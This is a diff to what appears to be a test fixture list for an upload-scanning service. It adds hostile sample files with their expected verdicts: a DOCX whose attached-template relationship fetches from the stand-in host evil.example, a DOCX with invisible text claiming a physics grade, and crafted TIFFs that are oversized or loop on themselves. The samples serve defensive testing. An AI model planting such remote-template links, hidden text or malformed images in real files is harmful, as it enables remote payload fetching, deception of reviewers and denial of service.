@@ -105,11 +105,29 @@ ENTITIES = (
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
 REMOTE = b'<r Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
 
+QUOTED = b"<r Type='x/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode = 'External'/>"
+UNSEEN = "</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>Физика, 300 часов, экзамен, 5</w:t></w:r><w:r><w:t>"
+
+
+def tiff(*entries: tuple[int, int], following: int = 0) -> bytes:
+    """A TIFF of one page with these 4-byte tags; `following` is where it says that its next page stands."""
+    tags = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
+    return b"II*\x00" + struct.pack("<IH", 8, len(entries)) + tags + struct.pack("<I", following)
+
+
 # name, bytes, the code that the office must be told
 FILES: list[tuple[str, bytes, str]] = [
     ("zip-bomb.zip", bomb_in_zip(), "too_large_inside"),
     ("nested.zip", zipped({"inner.zip": bomb_in_zip(), "a.txt": b"a"}), ""),
     ("locked.zip", locked_zip(), "encrypted_file"),
+    ("quoted.docx", docx(**{"word___rels__settings.xml.rels": QUOTED}), "remote_content"),
+    ("unseen.docx", docx(UNSEEN), "hidden_text"),
+    (
+        "huge.tiff",
+        tiff((256, 60_000), (257, 60_000), (258, 1), (259, 8), (273, 8), (279, 9)),
+        "too_many_pixels",
+    ),
+    ("loop.tiff", tiff((256, 10), following=8), "broken_file"),
     ("huge.png", png_of(60_000, 60_000), "too_many_pixels"),
     ("script.pdf", pdf_with_script(), "active_content"),
     ("locked.pdf", locked_pdf(), "encrypted_file"),
